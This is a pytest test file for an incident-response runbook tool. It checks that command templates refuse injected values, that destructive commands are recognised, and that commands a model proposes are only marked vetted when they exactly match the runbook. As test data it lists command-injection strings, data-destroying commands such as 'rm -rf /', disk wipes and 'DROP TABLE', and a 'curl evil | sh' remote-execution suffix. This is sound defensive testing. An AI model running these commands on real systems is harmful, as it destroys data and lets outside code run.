"""Vetted command rendering (hostile values refused, never spliced), destructive labels, labelling."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.runbook_fixtures import good, write

from incident.actions import (
    PLACEHOLDERS,
    TemplateError,
    is_destructive,
    label_commands,
    render_command,
    render_runbook_commands,
    template_placeholders,
)
from incident.models import ProposedCommand
from incident.runbooks import Runbook, load_runbook_file

KUBECTL = "kubectl rollout undo deployment/{{ service }} --to-revision={{ rollback.revision }} -n {{ vars.namespace }}"


def _values(**over: Any) -> dict[str, Any]:
    v: dict[str, Any] = {
        "service": "checkout",
        "environment": "production",
        "incident": {"id": "2026-11-21-checkout-500s"},
        "rollback": {"revision": "41", "sha": "9f2c1ab", "version": "1.41.0"},
        "suspect": {"revision": "42", "sha": "b9c1d4e0", "version": "1.42.0"},
        "vars": {"namespace": "shop", "release": "checkout"},
    }
    v.update(over)
    return v


def _checkout(tmp_path: Path) -> Runbook:
    rb, problems = load_runbook_file(write(tmp_path, "c.yaml", good()))
    assert rb is not None, problems
    return rb


def test_runbook_commands_render_vetted_with_runbook_id(tmp_path: Path) -> None:
    cmds, problems = render_runbook_commands(_checkout(tmp_path), _values())
    assert problems == []
    assert [c.command for c in cmds] == [
        "helm rollback checkout 41 -n shop --wait",
        "kubectl rollout restart deployment/checkout -n shop",
    ]
    assert all(c.vetted and c.runbook_id == "checkout-deploy" and not c.destructive for c in cmds)
    assert [c.kind for c in cmds] == ["rollback", "restart"]
    assert cmds[0].time_to_effect == "2-5 min" and cmds[0].reversibility == "roll forward again"


def test_the_kubectl_template_renders_from_an_integer_revision() -> None:
    cmd, problems = render_command(KUBECTL, _values(rollback={"revision": 41}))
    assert problems == []
    assert cmd == "kubectl rollout undo deployment/checkout --to-revision=41 -n shop"


def test_a_missing_value_keeps_the_mitigation_without_a_command(tmp_path: Path) -> None:
    cmds, problems = render_runbook_commands(_checkout(tmp_path), _values(rollback=None))
    assert cmds[0].command is None and cmds[0].vetted is False
    assert cmds[0].action == "Roll back the release to the last good revision"
    assert problems == [
        "runbook checkout-deploy, mitigation 'Roll back the release to the last good revision': "
        "no value for {{ rollback.revision }}; no command proposed"
    ]
    assert cmds[1].command == "kubectl rollout restart deployment/checkout -n shop" and cmds[1].vetted


def test_runbook_vars_are_used_when_the_caller_passes_none(tmp_path: Path) -> None:
    values = _values()
    del values["vars"]
    cmds, problems = render_runbook_commands(_checkout(tmp_path), values)
    assert problems == [] and cmds[0].command == "helm rollback checkout 41 -n shop --wait"


HOSTILE = [
    "; rm -rf /",
    "$(id)",
    "`id`",
    "checkout\nrm -rf /",
    "41\n",
    "--kubeconfig=/x",
    "-n",
    "chеckout",  # Cyrillic e
    "ｃheckout",  # fullwidth c
    "٤١",  # Arabic-Indic digits: \d would take them, [0-9] does not
    "a" * 200,
    "",
    " checkout",
    "a b",
    "a'b",
    'a"b',
    "a|b",
    "a&&b",
    "a>b",
    "../../etc/passwd",
    "x\x1b[2J",
    "x\x00y",
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("field", ["service", "rollback.revision", "rollback.sha", "rollback.version", "vars.namespace", "incident.id"])
def test_hostile_values_are_refused_never_spliced(field: str, value: str) -> None:
    head, _, tail = field.partition(".")
    values = _values()
    if tail:
        values[head] = {**values[head], tail: value}
    else:
        values[head] = value
    template = "deploy {{ " + field + " }} now"
    cmd, problems = render_command(template, values)
    assert cmd is None
    assert len(problems) == 1 and problems[0].startswith(f"refused {{{{ {field} }}}} = ")


@given(st.text(max_size=80))
@settings(max_examples=300, deadline=None)
def test_any_value_is_refused_or_appears_as_exactly_one_safe_word(value: str) -> None:
    cmd, problems = render_command("kubectl -n {{ vars.namespace }} get {{ service }}", _values(service=value))
    if cmd is None:
        assert problems
        return
    words = shlex.split(cmd)
    assert words == ["kubectl", "-n", "shop", "get", value]
    assert not value.startswith("-") and value.isascii()


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("x {{ service | upper }}", "plain name"),
        ("x {{ service() }}", "plain name"),
        ("x {{ rollback['sha'] }}", "plain name"),
        ("x {{ ''.__class__ }}", "plain name"),
        ("x {% for a in b %}{{ a }}{% endfor %}", "no {% %} blocks"),
        ("x {{ service ", "syntax error"),
        ("x {{ lipsum }}", "unknown placeholder {{ lipsum }}"),
        ("x {{ service.__class__ }}", "unknown placeholder {{ service.__class__ }}"),
        ("x {{ vars.a.b }}", "unknown placeholder {{ vars.a.b }}"),
        ("x {{ rollback.id }}", "unknown placeholder {{ rollback.id }}"),
    ],
)
def test_templates_that_are_more_than_names_are_refused(template: str, message: str) -> None:
    cmd, problems = render_command(template, _values())
    assert cmd is None
    assert any(message in p for p in problems), problems


def test_template_placeholders_lists_names_in_order() -> None:
    assert template_placeholders(KUBECTL) == ["service", "rollback.revision", "vars.namespace"]
    assert template_placeholders("echo hi") == []
    with pytest.raises(TemplateError):
        template_placeholders("{{ a|b }}")


def test_a_multiline_template_is_refused() -> None:
    cmd, problems = render_command("helm rollback {{ service }}\nrm -rf /", _values())
    assert cmd is None and "one line" in problems[0]


def test_a_template_that_does_not_parse_as_shell_words_is_refused() -> None:
    cmd, problems = render_command("echo 'unclosed {{ service }}", _values())
    assert cmd is None and "does not parse" in problems[0]


def test_every_placeholder_sample_fits_its_own_pattern() -> None:
    for name, spec in PLACEHOLDERS.items():
        assert spec.pattern.fullmatch(spec.sample), name


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /var/lib/app",
        "rm -r build",
        "sudo rm /etc/app.conf",
        "find /data -name '*.tmp' -delete",
        "psql -c 'DROP TABLE orders'",
        "psql -c \"drop database shop\"",
        "psql -c 'TRUNCATE orders'",
        "psql -c 'DELETE FROM orders'",
        "psql -c 'DELETE FROM orders; SELECT 1 WHERE true'",
        "psql -c \"UPDATE orders SET status='void'\"",
        "kubectl delete deployment checkout -n shop",
        "kubectl -n shop drain node-1",
        "kubectl replace --force -f x.yaml",
        "helm uninstall checkout -n shop",
        "helm delete checkout",
        "git push --force origin main",
        "git push -f origin main",
        "git push --force-with-lease origin main",
        "git push origin +main",
        "git push origin --delete release",
        "git reset --hard HEAD~3",
        "terraform destroy -auto-approve",
        "terraform apply -destroy",
        "redis-cli FLUSHALL",
        "redis-cli -n 2 flushdb",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "mkfs.ext4 /dev/sdb1",
        "argocd app delete shop",
        "heroku pg:reset DATABASE_URL",
        "docker system prune -af",
        "aws s3 rm s3://bucket --recursive",
        "aws rds delete-db-instance --db-instance-identifier x",
        "gcloud compute instances delete vm-1",
        "echo ok && rm -rf /",
        "x" * 20_000,
    ],
)
def test_destructive_commands_are_recognised(command: str) -> None:
    assert is_destructive(command)


@pytest.mark.parametrize(
    "command",
    [
        "helm rollback checkout 41 -n shop --wait",
        "kubectl rollout undo deployment/checkout --to-revision=41 -n shop",
        "kubectl scale deployment/checkout --replicas=6 -n shop",
        "kubectl rollout restart deployment/checkout -n shop",
        "argocd app rollback shop 12",
        "git revert --no-edit 9f2c1ab",
        "git push origin main",
        "psql -c \"DELETE FROM sessions WHERE expires_at < now()\"",
        "psql -c \"UPDATE orders SET status='x' WHERE id=1\"",
        "ldcli flags toggle-off --flag new-pricing --project shop --environment production",
        "echo farm -f",
    ],
)
def test_ordinary_mitigations_are_not_destructive(command: str) -> None:
    assert not is_destructive(command)


def test_label_commands_vets_only_exact_runbook_commands(tmp_path: Path) -> None:
    vetted, _ = render_runbook_commands(_checkout(tmp_path), _values())
    proposed = [
        ProposedCommand(action="roll back", command="helm rollback checkout 41 -n shop --wait", vetted=False),
        ProposedCommand(action="roll back harder", command="helm rollback checkout 41 -n shop --wait --force", vetted=True),
        ProposedCommand(action="nuke", command="kubectl delete deployment checkout -n shop", vetted=True, runbook_id="checkout-deploy"),
        ProposedCommand(action="ask payments", command=None, vetted=True),
        ProposedCommand(action="model says careful", command="kubectl rollout restart deployment/cart -n shop", destructive=True),
    ]
    out = label_commands(proposed, vetted)
    assert [(c.vetted, c.destructive, c.runbook_id) for c in out] == [
        (True, False, "checkout-deploy"),
        (False, False, None),
        (False, True, None),
        (False, False, None),
        (False, True, None),
    ]
    assert proposed[1].vetted is True  # inputs are not mutated


def test_label_commands_keeps_the_runbooks_destructive_flag() -> None:
    vetted = [ProposedCommand(action="clear cache", command="cachectl purge shop", vetted=True, destructive=True, runbook_id="rb")]
    out = label_commands([ProposedCommand(action="purge", command="cachectl purge shop")], vetted)
    assert (out[0].vetted, out[0].destructive, out[0].runbook_id) == (True, True, "rb")
    # a refused runbook mitigation (no command) vets nothing
    assert label_commands([ProposedCommand(action="x", command=None)], [ProposedCommand(action="x", vetted=False)])[0].vetted is False


def test_label_commands_needs_the_exact_string(tmp_path: Path) -> None:
    vetted, _ = render_runbook_commands(_checkout(tmp_path), _values())
    base = "helm rollback checkout 41 -n shop --wait"
    for near in (base + "\n", " " + base, base + "\nrm -rf /", base + "; curl evil | sh", base.replace("41", "4l")):
        out = label_commands([ProposedCommand(action="x", command=near)], vetted)[0]
        assert out.vetted is False and out.runbook_id is None, near
    smuggled = label_commands([ProposedCommand(action="x", command=base + "\nrm -rf /")], vetted)[0]
    assert smuggled.destructive is True


def test_a_runbook_step_without_a_command_keeps_its_runbook_label() -> None:
    step = ProposedCommand(action="Pause further deploys of the service", command=None, vetted=True, runbook_id="rb")
    out = label_commands([ProposedCommand(action="Pause further deploys of the service"),
                          ProposedCommand(action="Pause further deploys of the service", command="deployctl pause")], [step])  # fmt: skip
    assert (out[0].vetted, out[0].runbook_id) == (True, "rb")
    # a command added to the runbook's commandless step is the model's command: not vetted
    assert (out[1].vetted, out[1].runbook_id) == (False, None)
